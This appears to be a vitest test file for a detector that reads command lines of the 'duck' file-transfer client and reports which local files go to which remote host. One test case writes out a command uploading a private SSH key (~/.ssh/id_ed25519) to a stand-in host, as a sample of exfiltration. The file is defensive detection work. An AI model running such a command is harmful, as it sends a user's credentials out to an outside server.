import { describe, expect, it } from 'vitest';
import { syncUploads } from '../../src/extract/exfil-sync.js';
import { command } from '../helpers/command.js';

describe('files sent by desktop transfer apps’ command-line clients', () => {
  it.each<[string[], [string, string, string][]]>([
    [
      ['duck', '--upload', 'sftp://drop@files.example.net/incoming/', '~/.ssh/id_ed25519'],
      [['duck upload', 'files.example.net', '~/.ssh/id_ed25519']],
    ],
    [
      ['duck', '-u', 'me', '--upload', 'ftp://files.example.net/', 'a.txt', 'b.txt', '-e', 'overwrite'],
      [['duck upload', 'files.example.net', 'a.txt,b.txt']],
    ],
    [
      ['duck', '--synchronize', 'dav://dav.example.net/x/', 'site/'],
      [['duck synchronize', 'dav.example.net', 'site/']],
    ],
    // nothing local is sent
    [['duck', '--list', 'sftp://files.example.net/incoming/'], []],
    [['duck', '--download', 'sftp://files.example.net/a.txt', '.'], []],
    [['duck', '--help'], []],
    [['rsync', '--upload', 'x'], []],
  ])('%j', (argv, want) => {
    expect(syncUploads(command(argv)).map((t) => [t.sink, t.host, t.files.join(',')])).toEqual(want);
  });
});
